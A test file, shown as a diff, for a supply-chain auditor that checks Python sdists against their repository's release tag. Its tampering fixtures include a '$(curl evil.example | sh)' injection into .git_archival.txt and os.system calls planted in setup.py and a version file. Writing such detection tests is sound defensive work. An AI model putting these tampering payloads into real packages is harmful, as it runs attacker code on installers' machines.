@@ -1,0 +1,220 @@
+"""The sdist against its repository at the release's tag (auditor/sourcerepo): a local git repository made by
+the test, its URL pointed at with git's own url.<base>.insteadOf (GIT_CONFIG_GLOBAL), the sdist a directory
+as an extracted sdist is. Honest additions are named rules; a tampered sdist differs, class code; no
+repository, no tag, an unreachable repository are `unavailable` with the reason."""
+
+from __future__ import annotations
+
+import os
+import py_compile
+import shutil
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from auditor import sourcerepo
+
+URL = "https://github.com/example/demo"
+pytestmark = pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
+
+
+def git(cwd: Path, *args: str) -> str:
+    env = dict(os.environ, GIT_AUTHOR_NAME="t", GIT_AUTHOR_EMAIL="t@e", GIT_COMMITTER_NAME="t",
+               GIT_COMMITTER_EMAIL="t@e", GIT_CONFIG_GLOBAL=os.environ.get("GIT_CONFIG_GLOBAL", "/dev/null"))
+    return subprocess.run(["git", *args], cwd=cwd, env=env, check=True, capture_output=True, text=True).stdout
+
+
+@pytest.fixture
+def repo(tmp_path, monkeypatch):
+    """A repository tagged 1.0 (annotated), reachable as URL through insteadOf."""
+    r = tmp_path / "upstream"
+    (r / "demo").mkdir(parents=True)
+    (r / "demo" / "__init__.py").write_text("def hello():\n    return 'hello'\n")
+    (r / "demo" / "util.py").write_text("X = 1\n")
+    (r / "setup.py").write_text("from setuptools import setup\nsetup()\n")
+    (r / "setup.cfg").write_text("[metadata]\nname = demo\n")
+    (r / ".git_archival.txt").write_text("node: $Format:%H$\nref-names: $Format:%D$\n")
+    (r / "certs").mkdir()
+    (r / "certs" / "real.pem").write_text("CERT\n")
+    os.symlink("real.pem", r / "certs" / "link.pem")
+    (r / "tests").mkdir()
+    (r / "tests" / "test_demo.py").write_text("def test(): pass\n")
+    git(r, "init", "-q")
+    git(r, "add", "-A")
+    git(r, "commit", "-q", "-m", "release")
+    git(r, "tag", "-a", "v1.0", "-m", "1.0")
+    config = tmp_path / "gitconfig"
+    config.write_text(f'[url "file://{r}"]\n\tinsteadOf = {URL}\n')
+    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(config))
+    return r
+
+
+def sdist_of(repo: Path, dest: Path, url: str = URL) -> Path:
+    """The sdist an honest publisher makes from the tag: the tree (links as files, tests left out), plus what
+    the sdist step adds."""
+    src = dest / "demo-1.0"
+    shutil.copytree(repo, src, symlinks=False, ignore=shutil.ignore_patterns(".git", "tests"))
+    commit = git(repo, "rev-parse", "v1.0^{commit}").strip()
+    (src / "PKG-INFO").write_text(f"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nProject-URL: Source, {url}\n")
+    (src / "demo.egg-info").mkdir()
+    (src / "demo.egg-info" / "SOURCES.txt").write_text("demo/__init__.py\n")
+    (src / "setup.cfg").write_text("[metadata]\nname = demo\n\n[egg_info]\ntag_build = \ntag_date = 0\n\n")
+    (src / ".git_archival.txt").write_text(f"node: {commit}\nref-names: HEAD -> main, tag: v1.0\n")
+    (src / "demo" / "_version.py").write_text("__version__ = version = '1.0'\n")
+    py_compile.compile(str(src / "demo" / "util.py"), cfile=str(src / "demo" / "__pycache__" / "util.cpython-311.pyc"),
+                       doraise=True)
+    return src
+
+
+def test_an_honest_sdist_is_its_tag_plus_named_additions(repo, tmp_path):
+    result = sourcerepo.check(sdist_of(repo, tmp_path / "s"), "demo", "1.0", tmp_path / "repos")
+    assert result.verdict == "explained", (result.reason, result.differences)
+    assert result.tag == "v1.0" and result.url == URL and len(result.commit) == 40
+    expected = {"sdist-metadata", "egg-info-setup-cfg", "export-subst", "link-stored-as-file", "vcs-version-file"}
+    if (tmp_path / "s" / "demo-1.0" / "demo" / "__pycache__" / "util.cpython-311.pyc").read_bytes()[:4] == \
+            __import__("importlib.util").util.MAGIC_NUMBER:
+        expected.add("bytecode-of-source")
+    assert set(result.rules) == expected, result.rules
+    again = sourcerepo.check(sdist_of(repo, tmp_path / "s2"), "demo", "1.0", tmp_path / "repos")  # cached by commit
+    assert again.verdict == "explained" and (tmp_path / "repos" / result.commit / "HEAD").is_file()
+
+
+@pytest.mark.parametrize("tamper, path", [
+    (lambda s: (s / "demo" / "evil.py").write_text("import os\n"), "demo/evil.py"),
+    (lambda s: (s / "demo" / "__init__.py").write_text("def hello():\n    return __import__('os').getcwd()\n"),
+     "demo/__init__.py"),
+    (lambda s: (s / "setup.py").write_text("import os\nos.system('id')\nfrom setuptools import setup\nsetup()\n"),
+     "setup.py"),
+    (lambda s: (s / "demo-init.pth").write_text("import os\n"), "demo-init.pth"),
+    (lambda s: (s / "demo" / "__pycache__" / "util.cpython-311.pyc").write_bytes(
+        (s / "demo" / "__pycache__" / "util.cpython-311.pyc").read_bytes()[:16] + b"\xe3not the code of util.py"),
+     "demo/__pycache__/util.cpython-311.pyc"),
+    (lambda s: (s / ".git_archival.txt").write_text("node: $(curl evil.example | sh)\nref-names: x\n"),
+     ".git_archival.txt"),
+])
+def test_a_tampered_sdist_differs_naming_the_file_class_code(repo, tmp_path, tamper, path):
+    src = sdist_of(repo, tmp_path / "s")
+    tamper(src)
+    result = sourcerepo.check(src, "demo", "1.0", tmp_path / "repos")
+    assert result.verdict == "differs", result.reason
+    # a filled-in archival file is read by a version plugin, never run: packaging; the rest can run: code
+    cls = "packaging" if path == ".git_archival.txt" else "code"
+    assert [(d.path, d.cls) for d in result.differences] == [(path, cls)], result.differences
+
+
+def test_no_repository_no_tag_or_no_answer_is_unavailable_with_the_reason(repo, tmp_path):
+    src = sdist_of(repo, tmp_path / "s")
+    (src / "PKG-INFO").write_text("Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n")
+    r = sourcerepo.check(src, "demo", "1.0", tmp_path / "repos")
+    assert r.verdict == "unavailable" and "names no repository" in r.reason
+    r = sourcerepo.check(sdist_of(repo, tmp_path / "s2"), "demo", "2.0", tmp_path / "repos")
+    assert r.verdict == "unavailable" and r.reason.startswith("no tag for 2.0")
+    gone = sdist_of(repo, tmp_path / "s3", url="https://github.com/example/gone")
+    config = Path(os.environ["GIT_CONFIG_GLOBAL"])
+    config.write_text(config.read_text() + f'[url "file://{tmp_path}/nowhere"]\n\tinsteadOf = https://github.com/example/gone\n')
+    r = sourcerepo.check(gone, "demo", "1.0", tmp_path / "repos")
+    assert r.verdict == "unavailable" and "did not answer" in r.reason
+
+
+def test_the_repository_url_and_tag_are_found_as_publishers_write_them():
+    assert sourcerepo.repository_url({"project_urls": {"Source": "https://github.com/pallets/flask/"}}) == \
+        "https://github.com/pallets/flask"
+    assert sourcerepo.repository_url({"project_urls": {"Documentation": "https://x.readthedocs.io",
+                                                       "Changes": "https://github.com/a/b/blob/main/CHANGES.rst"}}) == \
+        "https://github.com/a/b"
+    assert sourcerepo.repository_url({"home_page": "https://github.com/yaml/pyyaml"}) == "https://github.com/yaml/pyyaml"
+    assert sourcerepo.repository_url({"home_page": "https://example.org"}) is None
+    tags = {"v1.2.3": "a", "1.2.4": "b", "demo-1.2.5": "c"}
+    assert [sourcerepo.tag_for(tags, "demo", v) for v in ("1.2.3", "1.2.4", "1.2.5", "9")] == ["v1.2.3", "1.2.4",
+                                                                                              "demo-1.2.5", None]
+
+
+URLLIB3_VERSION_PY = b'''# file generated by setuptools-scm
+# don't change, don't track in version control
+
+__all__ = ["__version__", "__version_tuple__", "version", "version_tuple"]
+
+TYPE_CHECKING = False
+if TYPE_CHECKING:
+    from typing import Tuple
+    from typing import Union
+
+    VERSION_TUPLE = Tuple[Union[int, str], ...]
+else:
+    VERSION_TUPLE = object
+
+version: str
+__version__: str
+__version_tuple__: VERSION_TUPLE
+version_tuple: VERSION_TUPLE
+
+__version__ = version = '2.5.0'
+__version_tuple__ = version_tuple = (2, 5, 0)
+'''
+
+
+def test_a_vcs_plugins_version_file_states_only_the_version():
+    """urllib3 2.5.0's src/urllib3/_version.py (setuptools-scm's template): accepted for 2.5.0 only; a call, an
+    import of anything but typing, or another version is not such a file."""
+    assert sourcerepo.vcs_template(URLLIB3_VERSION_PY, "2.5.0")
+    assert not sourcerepo.vcs_template(URLLIB3_VERSION_PY, "2.5.1")
+    assert not sourcerepo.vcs_template(URLLIB3_VERSION_PY + b"__import__('os').system('id')\n", "2.5.0")
+    assert not sourcerepo.vcs_template(URLLIB3_VERSION_PY.replace(b"from typing import Union", b"import os"), "2.5.0")
+    assert not sourcerepo.vcs_template(URLLIB3_VERSION_PY.replace(b"VERSION_TUPLE = object", b"VERSION_TUPLE = f()"),
+                                       "2.5.0")
+
+
+def test_a_setup_cfg_of_only_egg_infos_section_is_the_sdist_steps(repo, tmp_path):
+    """markupsafe 3.0.2: the repository has no setup.cfg; the sdist's holds only [egg_info]."""
+    src = sdist_of(repo, tmp_path / "s")
+    subprocess.run(["git", "rm", "-q", "setup.cfg"], cwd=repo, check=True)
+    git(repo, "commit", "-q", "-m", "no setup.cfg")
+    git(repo, "tag", "-a", "v1.1", "-m", "1.1")
+    (src / "setup.cfg").write_text("[egg_info]\ntag_build = \ntag_date = 0\n\n")
+    (src / "PKG-INFO").write_text(f"Metadata-Version: 2.1\nName: demo\nVersion: 1.1\nProject-URL: Source, {URL}\n")
+    (src / "demo" / "_version.py").write_text("__version__ = version = '1.1'\n")
+    (src / ".git_archival.txt").write_text("node: $Format:%H$\nref-names: $Format:%D$\n")
+    result = sourcerepo.check(src, "demo", "1.1", tmp_path / "repos")
+    assert result.verdict == "explained" and "egg-info-setup-cfg" in result.rules, (result.reason, result.differences)
+    (src / "setup.cfg").write_text("[egg_info]\ntag_build = \n\n[options]\nsetup_requires = evil\n")
+    assert sourcerepo.check(src, "demo", "1.1", tmp_path / "repos").verdict == "differs"
+
+
+def test_check_source_repo_end_to_end(tmp_path, index, auditor, container_backend):
+    """`auditor check --source-repo`: each release's results.json carries source_repo; an honest flit release is
+    explained (PKG-INFO), and the same release whose sdist gained a module its tag lacks is `differs`, class
+    code, exit 1, although its wheel is what that sdist builds into; the rest of the run goes on."""
+    from datetime import datetime, timezone
+
+    from tests.conftest import PYPI
+    from tests.fixtureindex import build_project, lock_line, make_project
+
+    now = datetime.now(timezone.utc).replace(microsecond=0)
+    lines, config = [], tmp_path / "gitconfig"
+    for name, extra in (("fixrepo-ok", None), ("fixrepo-evil", {"fixrepo_evil/added.py": "import os\n"})):
+        proj = make_project(tmp_path / "src" / name, name, "1.0")
+        url = f"https://github.com/example/{name}"
+        with open(proj / "pyproject.toml", "a") as f:
+            f.write(f'\n[project.urls]\nSource = "{url}"\n')
+        git(proj, "init", "-q")
+        git(proj, "add", "-A")
+        git(proj, "commit", "-q", "-m", "1.0")
+        git(proj, "tag", "v1.0")
+        with open(config, "a") as f:
+            f.write(f'[url "file://{proj}"]\n\tinsteadOf = {url}\n')
+        for rel, text in (extra or {}).items():  # added to the working tree after the tag: only the sdist has it
+            (proj / rel).write_text(text)
+        sdist, wheel = build_project(proj, tmp_path / "dist" / name)
+        lines.append(lock_line(name, "1.0", index.add(name, sdist, now), index.add(name, wheel, now)))
+    lock = tmp_path / "requirements.txt"
+    lock.write_text("".join(lines))
+    r = auditor("check", str(lock), "--index-url", index.url, "--build-index-url", PYPI, "--backend", container_backend,
+                "--source-repo", env={"GIT_CONFIG_GLOBAL": str(config)})
+    ok, evil = r.package("fixrepo-ok"), r.package("fixrepo-evil")
+    assert ok["source_repo"]["verdict"] in ("matches", "explained") and ok["source_repo"]["tag"] == "v1.0", ok["source_repo"]
+    assert ok["verdict"] == "identical", ok["reason"]
+    assert evil["source_repo"]["verdict"] == "differs" and evil["verdict"] == "differs", evil["source_repo"]
+    assert [(d["path"], d["cls"]) for d in evil["source_repo"]["differences"]] == [("fixrepo_evil/added.py", "code")]
+    assert evil["reason"].startswith("sdist against the repository:") and evil["wheels"][0]["verdict"] == "identical"
+    assert r.code == 1
